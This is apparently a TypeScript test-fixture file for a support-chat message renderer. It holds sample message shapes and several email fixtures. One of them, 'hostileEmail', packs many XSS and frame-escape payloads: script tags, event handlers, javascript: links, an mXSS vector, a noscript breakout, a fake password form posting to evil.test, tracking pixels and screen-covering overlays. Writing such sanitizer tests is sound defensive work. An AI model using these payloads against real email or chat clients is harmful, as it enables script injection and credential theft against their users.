import type { Json } from './api.ts';

/** Messages in the shapes of the contract; `shown` is a text that appears on the screen. */
export const messageKinds: (Json & { shown: string })[] = [
  kind('input_select', 'Which size?', {
    items: [
      { title: 'Small', value: 's' },
      { title: 'Large', value: 'l' },
    ],
    submitted_values: [{ title: 'Large', value: 'l' }],
    shown: 'Chosen',
  }),
  kind('cards', 'Our lamps', {
    items: [
      {
        media_url: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
        title: 'Oak lamp',
        description: 'Warm light',
        actions: [{ type: 'postback', text: 'Order the lamp', payload: 'order' }],
      },
    ],
    shown: 'Order the lamp',
  }),
  kind('form', 'Your delivery', {
    items: [{ name: 'street', type: 'text', label: 'Street' }],
    submitted_values: [{ name: 'street', value: 'Elm Road 5' }],
    shown: 'Elm Road 5',
  }),
  kind('article', 'These may help', {
    items: [{ title: 'Returning a lamp', description: 'In 30 days', link: 'https://help.test/returns' }],
    shown: 'Returning a lamp',
  }),
  kind('input_email', 'Where can we reach you?', {
    submitted_email: 'ines@example.com',
    shown: 'ines@example.com',
  }),
  kind('input_csat', 'How did we do?', {
    submitted_values: { csat_survey_response: { rating: 4, feedback_message: 'Quick' } },
    shown: 'Rated 4 of 5',
  }),
  kind('integrations', 'Maya started a call', {
    type: 'dyte',
    data: { meeting_id: '1' },
    shown: 'Join the video call',
  }),
  kind('text', '', { is_unsupported: true, shown: "This message can't be shown here." }),
  kind('text', 'Look', {
    image_type: 'story_mention',
    story_sender: 'ines.shop',
    story_url: 'https://stories.test/1',
    shown: 'ines.shop mentioned you in a story.',
  }),
  {
    ...kind('text', '', { shown: 'Ines Weber' }),
    attachments: [
      file({
        file_type: 'contact',
        fallback_title: '+49 151 234567',
        meta: { first_name: 'Ines', last_name: 'Weber' },
      }),
      file({
        file_type: 'location',
        coordinates_lat: 52.5,
        coordinates_long: 13.4,
        fallback_title: 'Berlin',
      }),
      file({ file_type: 'fallback', fallback_title: 'A link', data_url: 'https://elsewhere.test/' }),
      file({ file_type: 'share', data_url: 'https://elsewhere.test/post.jpg' }),
      file({ file_type: 'hologram', data_url: 'https://elsewhere.test/new-kind' }),
    ],
  },
  kind('text', 'gone', { deleted: true, shown: 'This message was deleted' }),
];

function kind(
  content_type: string,
  content: string,
  message: Json & { shown: string },
): Json & { shown: string } {
  const { shown, ...content_attributes } = message;
  return { content_type, content, content_attributes, shown };
}

function file(attachment: Json): Json {
  return { id: 1, message_id: 1, account_id: 1, meta: {}, ...attachment };
}

function email(html: string): Json {
  return {
    content_type: 'incoming_email',
    message_type: 0,
    content: 'An email',
    content_attributes: {
      email: {
        bcc: ['archive@lamps.example'],
        cc: ['team@lamps.example'],
        content_type: 'text/html',
        date: '2026-11-20T10:00:00+01:00',
        from: ['ines@example.com'],
        html_content: { full: html, reply: '', quoted: '' },
        in_reply_to: null,
        message_id: '1@example.com',
        multipart: false,
        number_of_attachments: 0,
        subject: 'My lamp',
        text_content: {},
        to: ['help@lamps.example'],
      },
      cc_email: null,
      bcc_email: null,
    },
  };
}

/** Every known way for an email to escape its frame. */
export const hostileEmail: Json = email(`<!doctype html><html><head>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<link rel="stylesheet" href="https://evil.test/style.css"><link rel="preload" as="image" href="https://evil.test/preload.png">
<style>@import url(https://evil.test/import.css); @font-face { font-family: x; src: url(https://evil.test/font.woff) }
  body { background: url(https://evil.test/http-like.png) no-repeat, url("http://evil.test/body.png") }
  .over { position: fixed !important; inset: 0; z-index: 99999; background: red; width: 100vw; height: 100vh }
  :host { position: fixed; inset: 0 } * { cursor: url(https://evil.test/cursor.png), auto }</style>
<script>alert('head')</script></head>
<body onload="alert('load')" background="https://evil.test/background.png">
<p onclick="alert(1)" onmouseover="alert(2)">Hello</p>
<img src="x" onerror="alert('error')"><img src="https://track.test/pixel.gif" width="1" height="1" srcset="https://evil.test/set.png 2x">
<svg onload="alert('svg')"><script>alert('svg')</script><a xlink:href="javascript:alert(1)"><text>x</text></a><image href="https://evil.test/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<form action="https://evil.test/form"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.test/frame" srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="https://evil.test/object"></object><embed src="https://evil.test/embed">
<video src="https://evil.test/video" poster="https://evil.test/poster" autoplay></video>
<a href="javascript:alert(1)">Bad link</a> <a href=" java&#10;script:alert(1)">Worse link</a> <a href="data:text/html,<script>alert(1)</script>">Data</a>
<a href="https://shop.test/order" target="_top">Good link</a>
<div style="position:fixed;inset:0;width:9999px;height:50px;z-index:9999;margin:-500px;background:u\\72l(https://evil.test/escaped.png)">Over all</div>
<div class="over" style="background-image:/**/url('https://track.test/style.png')">Over by rule</div>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<table background="https://evil.test/table.png"><tr><td>The last line</td></tr></table></body></html>`);

export const quotedEmail: Json = email(
  '<p>The new lamp works, thank you.</p><div class="gmail_quote"><p>On Monday you wrote:</p>' +
    '<blockquote><p>Which lamp was it?</p><p>Please tell us.</p></blockquote></div>',
);

/** A style sheet with expensive rules for many elements. */
export const slowEmail: Json = email(
  `<style>${'b, * { color: red; background: blue; margin: 1px; padding: 2px } '.repeat(500)}</style>` +
    `<p>Slow</p>${'<i></i>'.repeat(110_000)}`,
);

export const longEmail: Json = email(
  Array.from({ length: 30_000 }, (_, index) => `<p>Line ${index + 1}</p>`).join(''),
);

/** A provider's template with two parameters. */
export const shipped = {
  name: 'shipped',
  status: 'approved',
  language: 'en',
  category: 'UTILITY',
  components: [
    { type: 'BODY', text: 'Hi {{1}}, your order {{2}} has left.' },
    { type: 'FOOTER', text: 'Paperlane' },
  ],
};
